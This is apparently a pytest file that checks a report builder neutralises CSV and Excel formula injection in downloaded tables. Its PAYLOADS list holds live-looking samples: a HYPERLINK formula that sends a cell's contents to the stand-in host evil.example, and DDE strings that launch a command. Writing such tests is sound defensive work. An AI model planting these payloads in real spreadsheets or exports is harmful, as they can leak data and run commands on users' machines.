"""Downloads cannot run as spreadsheet formulas (OWASP CSV injection guidance)."""

import csv

import openpyxl
import pandas as pd

from analysis.publish.report import ReportBuilder

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


def test_written_csv_and_excel_hold_no_formula(tmp_path):
    df = pd.DataFrame(
        {
            "You said": PAYLOADS,
            "Change (points)": ["-2.5", "+1.0", "", "3.0", "-0.1", "+12.0"],
            "Difference": [-3, -1, 0, 2, -7, 5],
        }
    )
    ReportBuilder(tmp_path).table(df, "you-said", "Actions")
    book = openpyxl.load_workbook(tmp_path / "tables" / "you-said.xlsx")
    texts = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if cell.data_type == "s":
                texts.append(cell.value)
    assert not [t for t in texts if t.startswith(TRIGGERS)]
    # (XML stores a carriage return as a line feed)
    written = [c.value.replace("\n", "\r") for c in book.active["A"][1:]]
    assert written == ["'" + p for p in PAYLOADS]
    # genuine negative numbers stay numbers
    assert [c.value for c in book.active["C"][1:]] == [-3, -1, 0, 2, -7, 5]
    assert [c.data_type for c in book.active["C"][1:]] == ["n"] * 6
    assert [c.value for c in book.active["B"][1:]][:2] == [-2.5, 1.0]

    with open(tmp_path / "tables" / "you-said.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
    assert [r[0].replace("\n", "\r") for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[2] for r in rows[1:]] == ["-3", "-1", "0", "2", "-7", "5"]


def test_the_page_itself_shows_the_text_as_written(tmp_path):
    page = ReportBuilder(tmp_path).table(pd.DataFrame({"c": ["=1+1"]}), "t", "T")
    assert "<td>=1+1</td>" in page
